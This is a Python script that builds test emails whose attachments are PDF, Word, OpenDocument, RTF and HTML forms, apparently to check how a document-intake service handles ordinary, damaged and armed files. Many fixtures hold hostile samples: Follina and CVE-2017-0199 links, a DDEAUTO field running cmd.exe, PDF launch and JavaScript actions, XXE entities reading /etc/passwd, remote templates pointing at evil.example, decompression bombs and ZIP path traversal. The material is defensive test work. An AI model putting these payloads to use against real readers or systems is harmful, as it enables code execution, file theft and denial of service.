#!/usr/bin/env python3
"""Files in mails: as LibreOffice saves them, as qpdf and accidents leave them, and armed by hand."""

import io
import pathlib
import struct
import subprocess
import tempfile
import zipfile
import zlib

from common import NAME, Book, b64, crlf, form, html_form, rows
from programs import run

LIBREOFFICE = ["doc", "docx", "odt", "rtf", "pdf", "txt", "fodt", "html", "xhtml", "epub", "ott", "docm", "dotx"]
FILTERS = {"txt": "txt:Text (encoded):UTF8", "docm": "docm:MS Word 2007 XML VBA", "dotx": "dotx:MS Word 2007 XML Template",
           "xhtml": "xhtml:XHTML Writer File"}


def libreoffice(urns):
    """Of each format one file, with its own URN: {format: bytes}."""
    made = {}
    with tempfile.TemporaryDirectory() as folder:
        place = pathlib.Path(folder)
        source = place / "source.html"
        for kind, urn in urns.items():
            source.write_text(html_form(urn).replace("<body>", '<head><meta charset="utf-8"></head><body>'), encoding="utf-8")
            office(place, "odt", source, "--infilter=HTML (StarWriter)")
            odt = place / "source.odt"
            if kind == "odt":
                made[kind] = odt.read_bytes()
                continue
            office(place / "out", FILTERS.get(kind, kind), odt)
            made[kind] = (place / "out" / f"source.{kind}").read_bytes()
    return made


def office(out, to, file, *options):
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{out.parent if out.name == 'out' else out}/profile",
                    *options, "--convert-to", to, "--outdir", str(out), str(file)], check=True, capture_output=True, timeout=120)


# --- PDF by hand ------------------------------------------------------------------------------


def pdf(lines, catalog="", objects=(), page="", fields=None, header="%PDF-1.7", trailer=""):
    """Lines of text on one page; objects are added from number 10 on."""
    shown = "".join(f"({escape(line)}) Tj T* " for line in lines)
    stream = f"BT /F1 9 Tf 12 TL 40 800 Td {shown}ET".encode("cp1252")
    numbered = {1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode("cp1252"), 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {page} >>".encode("cp1252"),
                4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
                5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"}
    for number, value in enumerate(objects, 10):
        numbered[number] = value if isinstance(value, bytes) else value.encode("cp1252")
    out = io.BytesIO((header + "\n").encode())
    out.seek(0, 2)
    places = {}
    for number, value in sorted(numbered.items()):
        places[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + value + b"\nendobj\n")
    start, size = out.tell(), max(numbered) + 1
    out.write(b"xref\n0 %d\n" % size)
    for number in range(size):
        out.write(b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n")
    out.write(f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


def escape(text):
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def form_lines(urn, **other):
    return ["Annex A - Referral"] + [f"{a} {b}".rstrip() for a, b in rows(urn, **other)]


def acroform(urn, more="", names=True):
    """A fillable form: labels printed, values in fields."""
    labels = list(rows(urn))
    fields, kids = [], []
    for n, (label, value) in enumerate(labels):
        if value:
            kids.append(f"{10 + len(fields)} 0 R")
            title = f"/T ({escape(label)})" if names else f"/T (Text{n})"
            fields.append(f"<< /Type /Annot /Subtype /Widget /FT /Tx {title} /TU ({escape(label)}) /V ({escape(value)}) /DA (/Helv 9 Tf) "
                          f"/Rect [300 {790 - 12 * n} 560 {801 - 12 * n}] /P 3 0 R >>")
    return pdf(["Annex A - Referral"] + [label for label, _ in labels], page=f"/Annots [{' '.join(kids)}]",
               catalog=f"/AcroForm << /Fields [{' '.join(kids)}] {more} >>", objects=fields)


def qpdf(data, *options):
    with tempfile.TemporaryDirectory() as folder:
        source, target = pathlib.Path(folder, "in.pdf"), pathlib.Path(folder, "out.pdf")
        source.write_bytes(data)
        subprocess.run(["qpdf", "--warning-exit-0", *options, str(source), str(target)], check=True, capture_output=True)
        return target.read_bytes()


# --- Word and OpenDocument by hand ------------------------------------------------------------

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(urn, body="", rels="", parts=(), types="", before="", document=None):
    paragraphs = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{line}</w:t></w:r></w:p>" for line in form_lines(urn))
    main = document if document is not None else f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document {W}><w:body>{paragraphs}{body}</w:body></w:document>'
    files = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>{types}</Types>',
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>',
        "word/document.xml": main,
    }
    return zipped({**files, **dict(parts)})


def zipped(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2025, 6, 2, 9, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def odt(urn, content="", parts=(), before="", manifest=""):
    spaces = " ".join(f'xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for p, n in [
        ("office", "office"), ("text", "text"), ("draw", "drawing"), ("script", "script")]) + ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    lines = "".join(f"<text:p>{line}</text:p>" for line in form_lines(urn))
    main = f'<?xml version="1.0" encoding="UTF-8"?>{before}<office:document-content {spaces}><office:body><office:text>{lines}{content}</office:text></office:body></office:document-content>'
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": main,
                   "META-INF/manifest.xml": manifest or '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>', **dict(parts)})


def rel(kind, target):
    return f'<Relationship Id="x1" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'


def rtf(urn, more=""):
    def coded(text):
        return "".join(c if ord(c) < 128 and c not in "\\{}" else f"\\u{ord(c)}?" for c in text)
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}" + more + "".join(coded(line) + "\\par\n" for line in form_lines(urn)) + "}").encode("ascii")


def main():
    book = Book("documents", "DO")

    def put(file, name, make, says, outcome="applied", cause="-", kind="application/octet-stream"):
        urn = book.urn()
        data = make(urn) if callable(make) else make
        raw = crlf(book.head() + 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\nSee the form.\n--b\n'
                   f'Content-Type: {kind}\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="{name}"\n\n')
        book.put(file, raw + b64(data) + b"--b--\r\n", outcome, says, cause)

    parked = lambda cause: ("parked", "document-" + cause)
    urns, saved = {}, {}
    start = book.number
    for n, kind in enumerate(LIBREOFFICE, 1):
        urns[kind] = f"DO{1000 + start + n}"
    saved = libreoffice(urns)
    for kind in LIBREOFFICE:
        how = {"fodt": ("parked", "not-recognised"), "docm": parked("macros"), "epub": parked("not-a-known-format")}.get(kind, ())
        put(f"libreoffice-{kind}.eml", f"form.{kind}", saved[kind], f"saved by LibreOffice as {kind}", *how)

    # PDF
    put("pdf-flat.eml", "form.pdf", lambda u: pdf(form_lines(u)), "a PDF of text")
    put("pdf-fields.eml", "form.pdf", lambda u: acroform(u), "a fillable PDF")
    put("pdf-fields-unnamed.eml", "form.pdf", lambda u: acroform(u, names=False), "a fillable PDF whose fields have no telling names")
    put("pdf-need-appearances.eml", "form.pdf", lambda u: acroform(u, "/NeedAppearances true"), "a fillable PDF that was filled without drawing the values")
    for says, options, file in [
        ("linearised by qpdf", ["--linearize"], "linearised"), ("object streams", ["--object-streams=generate"], "object-streams"),
        ("uncompressed", ["--qdf"], "qdf"), ("an owner's password only", ["--encrypt", "", "owner", "256", "--"], "owner-password"),
        ("an owner's password only, RC4", ["--allow-weak-crypto", "--encrypt", "", "owner", "128", "--use-aes=n", "--"], "owner-password-rc4"),
    ]:
        put(f"pdf-{file}.eml", "form.pdf", lambda u, o=options: qpdf(acroform(u), *o), f"PDF: {says}")
    for bits, options in [("40", ["--allow-weak-crypto", "--encrypt", "user", "owner", "40", "--"]),
                          ("128", ["--allow-weak-crypto", "--encrypt", "user", "owner", "128", "--"]), ("256", ["--encrypt", "user", "owner", "256", "--"])]:
        put(f"pdf-password-{bits}.eml", "form.pdf", lambda u, o=options: qpdf(pdf(form_lines(u)), *o), f"a PDF with a password ({bits} bits)", *parked("encrypted"))
    put("pdf-junk-before.eml", "form.pdf", lambda u: b"\xef\xbb\xbf\r\njunk of a relay\r\n" + pdf(form_lines(u)), "junk before the PDF")
    put("pdf-junk-behind.eml", "form.pdf", lambda u: pdf(form_lines(u)) + b"\0" * 3000 + b"footer", "junk behind the PDF")
    put("pdf-no-xref.eml", "form.pdf", lambda u: pdf(form_lines(u)).split(b"xref\n0")[0], "a PDF without its table of places")
    put("pdf-wrong-xref.eml", "form.pdf", lambda u: pdf(form_lines(u)).replace(b"startxref\n", b"startxref\n9"), "a PDF with a wrong table of places")
    put("pdf-cut.eml", "form.pdf", lambda u: pdf(form_lines(u))[:400], "a PDF cut off", *parked("no-text"))
    put("pdf-header-only.eml", "form.pdf", b"%PDF-1.7\n", "the first line of a PDF", *parked("damaged"))
    put("pdf-crlf-mangled.eml", "form.pdf", lambda u: pdf(form_lines(u)).replace(b"\n", b"\r\n"), "a PDF whose line ends were changed as if it were text")
    put("pdf-loop.eml", "form.pdf", lambda u: pdf(form_lines(u)).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "a page tree that is its own child", *parked("damaged"))
    put("pdf-parent-loop.eml", "form.pdf", lambda u: pdf(form_lines(u)).replace(b"/MediaBox [0 0 595 842]", b"/Parent 3 0 R"), "a page that is its own parent", "applied")
    put("pdf-field-loop.eml", "form.pdf", lambda u: pdf(form_lines(u), catalog="/AcroForm << /Fields [10 0 R] >>", objects=["<< /T (a) /Kids [10 0 R] /Parent 10 0 R >>"]),
        "a field that is its own child")
    put("pdf-count-lies.eml", "form.pdf", lambda u: pdf(form_lines(u)).replace(b"/Count 1", b"/Count 2147483647"), "a page tree that claims two thousand million pages", *parked("too-large"))
    put("pdf-javascript.eml", "form.pdf", lambda u: pdf(form_lines(u), catalog="/OpenAction << /S /JavaScript /JS (app.launchURL\\(\"http://evil.example/\"\\)) >>"),
        "JavaScript that runs when it is opened: nothing runs")
    put("pdf-javascript-names.eml", "form.pdf", lambda u: pdf(form_lines(u), catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\);) >>] >> >>"), "JavaScript by name")
    put("pdf-launch.eml", "form.pdf", lambda u: pdf(form_lines(u), catalog="/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"), "a program to launch")
    put("pdf-uri.eml", "form.pdf", lambda u: pdf(form_lines(u), catalog="/OpenAction << /S /URI /URI (http://evil.example/) >>"), "an address to open")
    put("pdf-submit.eml", "form.pdf", lambda u: acroform(u, "").replace(b"/Type /Catalog", b"/Type /Catalog /AA << /WC << /S /SubmitForm /F (http://evil.example/) >> >>"), "a form that submits itself")
    put("pdf-goto-remote.eml", "form.pdf", lambda u: pdf(form_lines(u), page="/AA << /O << /S /GoToE /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >> >>"), "a page that fetches another file")
    put("pdf-embedded-file.eml", "form.pdf", lambda u: pdf(form_lines(u), catalog="/Names << /EmbeddedFiles << /Names [(x.exe) << /F (x.exe) /EF << /F 10 0 R >> >>] >> >>",
        objects=[b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"]), "a program embedded in it")
    put("pdf-external-stream.eml", "form.pdf", lambda u: pdf(form_lines(u), page="/Annots [10 0 R]", objects=[
        b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /AP << /N 11 0 R >> >>", b"<< /F (file:///etc/passwd) /Length 0 >>\nstream\n\nendstream"]), "a stream in another file")
    put("pdf-xfa-only.eml", "form.pdf", pdf(["Please wait..."], catalog="/AcroForm << /XFA 10 0 R /Fields [] >>", objects=[
        b"<< /Length 20 >>\nstream\n<xdp:xdp></xdp:xdp>  \nendstream"]), "an XFA form, whose pages only say to wait", *parked("no-text"))
    put("pdf-xfa-xxe.eml", "form.pdf", lambda u: acroform(u, "/XFA 90 0 R").replace(b"xref\n0", b"90 0 obj\n<< /Length 99 >>\nstream\n<!DOCTYPE x [<!ENTITY e SYSTEM "
        b"\"file:///etc/passwd\">]><xdp>&e;</xdp>\nendstream\nendobj\nxref\n0", 1), "XFA with an external entity beside real fields")
    put("pdf-scan.eml", "form.pdf", pdf([]), "a PDF without any text", *parked("no-text"))
    put("pdf-bomb.eml", "form.pdf", bomb(120 << 20), "a PDF that inflates to 120 MB", *parked("no-text"))
    put("pdf-bomb-twice.eml", "form.pdf", bomb(300 << 20, 2), "a PDF compressed twice, 300 MB", *parked("too-large"))
    put("pdf-predictor.eml", "form.pdf", lambda u: pdf(form_lines(u)).replace(b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 1e38 -1e38]"), "a page as wide as the universe", "parked", "not-recognised")
    put("pdf-nested-arrays.eml", "form.pdf", lambda u: pdf(form_lines(u), catalog="/X " + "[" * 20_000 + "]" * 20_000), "20,000 arrays in one another", *parked("damaged"))
    # Word
    put("docx-plain.eml", "form.docx", lambda u: docx(u), "a plain Word document")
    put("docx-macros.eml", "form.docx", lambda u: docx(u, parts={"word/vbaProject.bin": b"code"}.items()), "macros in a .docx", *parked("macros"))
    put("docm-declared.eml", "form.docx", lambda u: docx(u, types='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "macros declared in a .docx", *parked("macros"))
    put("docx-template.eml", "form.docx", lambda u: docx(u, parts={"word/settings.xml": f'<w:settings {W}><w:attachedTemplate r:id="x1"/></w:settings>',
        "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + rel("attachedTemplate", "http://evil.example/t.dotm") + "</Relationships>"}.items()),
        "a template fetched from elsewhere (template injection)")
    put("docx-external-picture.eml", "form.docx", lambda u: docx(u, rels=rel("image", "http://evil.example/x.png")), "a picture elsewhere: not fetched")
    put("docx-external-smb.eml", "form.docx", lambda u: docx(u, rels=rel("image", "file://///evil.example/share/x.png")), "a picture on a Windows share: no password is given away")
    put("docx-ole-link.eml", "form.docx", lambda u: docx(u, rels=rel("oleObject", "http://evil.example/x.hta")), "an object elsewhere (CVE-2017-0199)")
    put("docx-altchunk.eml", "form.docx", lambda u: docx(u, body='<w:altChunk r:id="x1"/>', rels=rel("aFChunk", "http://evil.example/x.html")), "a chunk of HTML elsewhere")
    put("docx-dde.eml", "form.docx", lambda u: docx(u, body='<w:p><w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'), "a DDE field")
    put("docx-msdt.eml", "form.docx", lambda u: docx(u, rels=rel("oleObject", "mhtml:http://evil.example/x.html!ms-msdt:/id")), "Follina (CVE-2022-30190)")
    put("docx-embedded-exe.eml", "form.docx", lambda u: docx(u, parts={"word/embeddings/oleObject1.bin": b"MZ"}.items()), "a program embedded in it")
    put("docx-xxe.eml", "form.docx", lambda u: docx(u, before='<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>', body="<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"), "an external entity", *parked("external-references"))
    put("docx-xxe-parameter.eml", "form.docx", lambda u: docx(u, before='<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'), "an external parameter entity", *parked("external-references"))
    put("docx-external-dtd.eml", "form.docx", lambda u: docx(u, before='<!DOCTYPE d SYSTEM "http://evil.example/x.dtd">'), "an external DTD", *parked("external-references"))
    put("docx-laughs.eml", "form.docx", lambda u: docx(u, before="<!DOCTYPE d [<!ENTITY a \"ha\">" + "".join(
        f'<!ENTITY {chr(98 + n)} "{"&" + chr(97 + n) + ";" * 1}{"&" + chr(97 + n) + ";"}">' for n in range(20)) + "]>", body="<w:p><w:r><w:t>&u;</w:t></w:r></w:p>"), "a billion laughs", *parked("external-references"))
    put("docx-xxe-rels.eml", "form.docx", lambda u: docx(u, rels='<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), "a DTD among the relationships", *parked("damaged"))
    put("docx-utf16.eml", "form.docx", lambda u: docx(u, document=(f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}><w:body>' + "".join(
        f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in form_lines(u)) + "</w:body></w:document>").encode("utf-16")), "XML in UTF-16")
    put("docx-xxe-utf16.eml", "form.docx", lambda u: docx(u, document=(f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document {W}>'
        "<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>").encode("utf-16")), "an external entity hidden in UTF-16", *parked("external-references"))
    put("docx-xxe-utf7.eml", "form.docx", lambda u: docx(u, document=(f'<?xml version="1.0" encoding="UTF-7"?>' + '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>').encode("utf-7")),
        "an external entity hidden in UTF-7", *parked("damaged"))
    put("docx-xinclude.eml", "form.docx", lambda u: docx(u, body='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), "an XInclude: nothing is included")
    put("docx-deep.eml", "form.docx", lambda u: docx(u, body="<w:p>" * 60_000 + "</w:p>" * 60_000), "60,000 elements in one another", *parked("too-large"))
    put("docx-bomb.eml", "form.docx", lambda u: docx(u, body=" " * (120 << 20)), "a Word document that inflates to 120 MB", *parked("too-large"))
    put("docx-parts.eml", "form.docx", lambda u: docx(u, parts=[(f"a{n}", b"") for n in range(1500)]), "1,500 parts in the ZIP", "applied")
    put("docx-traversal.eml", "form.docx", lambda u: docx(u, parts=[("../../../../tmp/evil", b"x"), ("/etc/evil", b"x"), ("..\\..\\evil", b"x")]), "paths out of the ZIP: nothing is written")
    put("docx-twice.eml", "form.docx", lambda u: twice(u), "two documents of one name in the ZIP", *parked("damaged"))
    put("docx-cut.eml", "form.docx", lambda u: docx(u)[:-300], "a Word document cut off", *parked("damaged"))
    put("docx-crc.eml", "form.docx", lambda u: flip_crc(docx(u)), "a Word document with a wrong checksum", *parked("damaged"))
    put("docx-junk-before.eml", "form.docx", lambda u: b"MZ junk" + docx(u), "a ZIP behind something else", *parked("not-a-known-format"))
    put("docx-no-main.eml", "form.docx", zipped({"[Content_Types].xml": "<Types/>"}), "a Word document without a document", *parked("not-a-known-format"))
    put("docx-empty-main.eml", "form.docx", lambda u: docx(u, document=b""), "an empty document within", *parked("damaged"))
    put("docx-as-pdf.eml", "form.pdf", lambda u: docx(u), "a Word document that calls itself PDF")
    put("pdf-as-docx.eml", "form.docx", lambda u: pdf(form_lines(u)), "a PDF that calls itself Word")
    put("polyglot.eml", "form.pdf", lambda u: pdf(form_lines(u)) + docx("ZZ5555"), "a PDF that is a Word document too: it is read as PDF")
    # OpenDocument
    put("odt-plain.eml", "form.odt", lambda u: odt(u), "a plain OpenDocument text")
    put("odt-basic.eml", "form.odt", lambda u: odt(u, parts={"Basic/Standard/Module1.xml": "<x/>", "Basic/script-lc.xml": "<x/>"}.items()), "macros in an .odt", *parked("macros"))
    put("odt-scripts.eml", "form.odt", lambda u: odt(u, parts={"Scripts/python/evil.py": "import os"}.items()), "a Python script in an .odt", *parked("macros"))
    put("odt-event.eml", "form.odt", lambda u: odt(u, '<office:event-listeners><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:evil$x"/></office:event-listeners>'),
        "an event that calls a script")
    put("odt-external.eml", "form.odt", lambda u: odt(u, '<text:p><draw:frame><draw:image xlink:href="http://evil.example/x.png"/></draw:frame></text:p>'), "a picture elsewhere")
    put("odt-section.eml", "form.odt", lambda u: odt(u, '<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>'), "a section from another file")
    put("odt-xxe.eml", "form.odt", lambda u: odt(u, "<text:p>&e;</text:p>", before='<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), "an external entity", *parked("external-references"))
    put("odt-encrypted.eml", "form.odt", lambda u: odt(u, manifest='<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        'manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'), "an encrypted .odt", *parked("encrypted"))
    put("odt-repeat.eml", "form.odt", lambda u: odt(u, '<text:p><text:s text:c="2147483647"/>x</text:p>'), "two thousand million blanks", "applied")
    # RTF, HTML, text, others
    put("rtf-plain.eml", "form.rtf", lambda u: rtf(u), "a plain RTF")
    put("rtf-as-doc.eml", "form.doc", lambda u: rtf(u), "an RTF that calls itself .doc, as exploits do")
    put("rtf-object.eml", "form.rtf", lambda u: rtf(u, "{\\object\\objemb{\\*\\objdata 01050000020000000b000000}}"), "an OLE object in RTF: not read")
    put("rtf-template.eml", "form.rtf", lambda u: rtf(u, "{\\*\\template http://evil.example/t.dotm}"), "a template elsewhere")
    put("rtf-include.eml", "form.rtf", lambda u: rtf(u, "{\\field{\\*\\fldinst INCLUDEPICTURE \"http://evil.example/x.png\"}{\\fldrslt x}}"), "a picture elsewhere")
    put("rtf-deep.eml", "form.rtf", lambda u: rtf(u, "{" * 50_000 + "}" * 50_000), "50,000 groups in one another", *parked("too-large"))
    put("rtf-open.eml", "form.rtf", lambda u: rtf(u)[:-1], "an RTF whose last bracket is missing")
    put("rtf-bin.eml", "form.rtf", lambda u: rtf(u, "{\\*\\blip\\bin2147483647 x}"), "binary data of two gigabytes, it says", "applied")
    put("html-active.eml", "form.html", lambda u: html_form(u).replace("<h2>", "<script>while(true);</script><iframe src='http://evil.example/'></iframe><svg onload=alert(1)></svg>"
        "<meta http-equiv=refresh content='0;url=http://evil.example/'><object data='file:///etc/passwd'></object><h2>").encode(), "HTML with everything active")
    put("html-hidden.eml", "form.html", lambda u: html_form(u).replace("<h2>", "<div style='display:none'>URN 100 ZZ4444</div><h2>").encode(), "another URN in a hidden part")
    put("txt-dos.eml", "form.txt", lambda u: crlf("\n".join(form_lines(u))) + b"\x1a", "a text file of DOS, with its end sign")
    put("txt-utf16.eml", "form.txt", lambda u: "\r\n".join(form_lines(u)).encode("utf-16"), "a text file of Notepad in UTF-16")
    for name, data, says, cause in [
        ("form.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "a picture", "not-a-known-format"),
        ("form.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF" + b"\0" * 50, "a photograph", "not-a-known-format"),
        ("form.heic", b"\0\0\0\x18ftypheic" + b"\0" * 50, "a photograph of a telephone", "not-a-known-format"),
        ("form.exe", b"MZ\x90\0\x03" + b"\0" * 60, "a program", "not-a-known-format"),
        ("form.rar", b"Rar!\x1a\x07\0" + b"\0" * 30, "a RAR archive", "not-a-known-format"),
        ("form.7z", b"7z\xbc\xaf'\x1c\0\x04" + b"\0" * 30, "a 7z archive", "not-a-known-format"),
        ("form.gz", b"\x1f\x8b\x08\0\0\0\0\0" + b"\0" * 30, "a gzip file", "not-a-known-format"),
        ("form.msg", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a damaged Outlook mail", "damaged"),
        ("form.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600, "a damaged old Word document", "damaged"),
        ("form.zip", zipped({"form.txt": "Name: x"}), "a ZIP with a form in it", "not-a-known-format"),
        ("form.xlsx", zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}), "a spreadsheet", "not-a-known-format"),
    ]:
        put(f"other-{name.split('.')[1]}.eml", name, data, says, *parked(cause))
    put("other-empty.eml", "form.pdf", b"", "an empty file that calls itself PDF", *parked("damaged"))
    book.close()


def bomb(size, times=1):
    stream = bytes(size)
    filters = []
    for _ in range(times):
        stream = zlib.compress(stream, 9)
        filters.append("/FlateDecode")
    return pdf_with_stream(stream, " ".join(filters))


def pdf_with_stream(stream, filters):
    made = pdf(["x"], objects=[b"<< /Length %d /Filter [%s] >>\nstream\n" % (len(stream), filters.encode()) + stream + b"\nendstream"])
    return made.replace(b"/Contents 4 0 R ", b"/Contents 10 0 R", 1)


def twice(urn):
    out = io.BytesIO(docx(urn))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", "<x/>")
    return out.getvalue()


def flip_crc(data):
    place = data.index(b"word/document.xml") - 30 + 14
    changed = bytearray(data)
    changed[place] ^= 0xFF
    return bytes(changed)


if __name__ == "__main__":
    main()
